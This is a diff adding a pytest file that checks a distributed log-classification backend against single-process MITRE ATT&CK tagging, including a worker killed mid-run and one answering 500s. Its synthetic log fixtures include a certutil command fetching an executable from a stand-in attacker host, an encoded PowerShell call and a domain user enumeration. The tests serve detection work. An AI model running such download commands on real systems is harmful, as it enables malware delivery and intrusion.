@@ -0,0 +1,146 @@
+# test_distributed.py
+"""
+End-to-end check for distributed.py: real worker processes on localhost, one of them
+killed mid-run, and the merged output compared with a single-process classification.
+
+Run from Backend/:  python -m pytest -q test_distributed.py
+"""
+import json
+import random
+import socket
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+
+import main
+import distributed
+
+MITRE_BUNDLE = {"objects": [
+    {"type": "attack-pattern", "name": "Account Discovery",
+     "external_references": [{"source_name": "mitre-attack", "external_id": "T1087"}],
+     "kill_chain_phases": [{"kill_chain_name": "mitre-attack", "phase_name": "discovery"}]},
+    {"type": "attack-pattern", "name": "PowerShell",
+     "external_references": [{"source_name": "mitre-attack", "external_id": "T1059.001"}],
+     "kill_chain_phases": [{"kill_chain_name": "mitre-attack", "phase_name": "execution"}]},
+    {"type": "attack-pattern", "name": "Ingress Tool Transfer",
+     "external_references": [{"source_name": "mitre-attack", "external_id": "T1105"}],
+     "kill_chain_phases": [{"kill_chain_name": "mitre-attack", "phase_name": "command-and-control"}]},
+]}
+
+def make_logs(n: int = 300, seed: int = 7):
+    rng = random.Random(seed)
+    lines = [
+        "powershell.exe -enc SQBFAFgA",
+        "net user /domain",
+        "certutil -urlcache -f http://evil.example.com/a.exe a.exe",
+        "connection from 10.0.%d.%d" % (rng.randint(0, 255), rng.randint(0, 255)),
+        "svchost.exe started",
+        "user logged on",
+    ]
+    return [{"filename": f"logs/host{i % 5}.log",
+             "text": "\n".join(rng.choice(lines) for _ in range(rng.randint(1, 8)))}
+            for i in range(n)]
+
+def free_base_port(count: int) -> int:
+    """First port of `count` consecutive free ports (spawn_local_workers numbers them from a base)."""
+    for base in range(18400, 19400, count):
+        try:
+            for port in range(base, base + count):
+                with socket.socket() as s:
+                    s.bind(("127.0.0.1", port))
+            return base
+        except OSError:
+            continue
+    pytest.skip("no free local ports")
+
+def normalized(classified):
+    """extract_iocs builds its lists from sets, so their order depends on each process's hash seed."""
+    return [{**e, "iocs": {k: sorted(v) for k, v in e["iocs"].items()}} for e in classified]
+
+@pytest.fixture
+def mitre_cwd(tmp_path, monkeypatch):
+    """Workers and the in-process pipeline both load the same tiny MITRE bundle."""
+    (tmp_path / "mitre_data").mkdir()
+    (tmp_path / "mitre_data" / "enterprise-attack.json").write_text(json.dumps(MITRE_BUNDLE))
+    monkeypatch.chdir(tmp_path)  # spawned workers inherit the cwd
+    monkeypatch.setattr(main, "MITRE_FILE", str(tmp_path / "mitre_data" / "enterprise-attack.json"))
+    monkeypatch.setattr(main, "_MITRE_INDEX", None)
+    return tmp_path
+
+def test_killed_worker_matches_single_process(mitre_cwd, monkeypatch):
+    logs = make_logs()
+    expected = main.classify_logs_pipeline(logs)
+    assert any(e["matched"] for e in expected)
+
+    n = 3
+    base = free_base_port(n)
+    procs = distributed.spawn_local_workers(n, base)
+    workers = [f"http://127.0.0.1:{base + i}" for i in range(n)]
+    victim = f"{workers[0]}/classify-shard"
+
+    # kill the first worker when it is handed its third shard, so it dies mid-run
+    real_post = distributed.requests.post
+    calls = {"victim": 0}
+
+    def post(url, *args, **kwargs):
+        if url == victim:
+            calls["victim"] += 1
+            if calls["victim"] == 3:
+                procs[0].kill()
+                procs[0].wait()
+        return real_post(url, *args, **kwargs)
+
+    monkeypatch.setattr(distributed.requests, "post", post)
+    try:
+        classified = distributed.Coordinator(workers, timeout=60).run(logs, max_logs=10)
+    finally:
+        distributed.stop_local_workers(procs)
+
+    assert calls["victim"] >= 3, "victim worker was never killed mid-run"
+    assert normalized(classified) == normalized(expected)
+
+def echo_worker(flaky_shard: int, failures: dict):
+    """Fake worker that echoes shards back and answers 500 for flaky_shard until it has failed twice."""
+    class Handler(BaseHTTPRequestHandler):
+        def log_message(self, *args):
+            pass
+
+        def do_GET(self):
+            self.send_response(200)
+            self.end_headers()
+            self.wfile.write(b"{}")
+
+        def do_POST(self):
+            shard = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+            if shard["shard_id"] == flaky_shard and failures.get("n", 0) < 2:
+                failures["n"] = failures.get("n", 0) + 1
+                self.send_response(500)
+                self.end_headers()
+                return
+            self.served.append(shard["shard_id"])
+            body = json.dumps({"shard_id": shard["shard_id"], "classified": shard["logs"]}).encode()
+            self.send_response(200)
+            self.end_headers()
+            self.wfile.write(body)
+
+    Handler.served = []
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server, Handler.served
+
+def test_bad_shard_does_not_drop_healthy_workers():
+    failures = {}
+    servers = [echo_worker(flaky_shard=0, failures=failures) for _ in range(2)]
+    workers = [f"http://127.0.0.1:{s.server_address[1]}" for s, _ in servers]
+    logs = [{"filename": "f", "text": str(i)} for i in range(100)]
+    try:
+        classified = distributed.Coordinator(workers, timeout=10).run(logs, max_logs=5)
+    finally:
+        for s, _ in servers:
+            s.shutdown()
+
+    assert classified == logs
+    assert failures["n"] == 2
+    # both workers kept taking shards after the 500s
+    assert all(served for _, served in servers)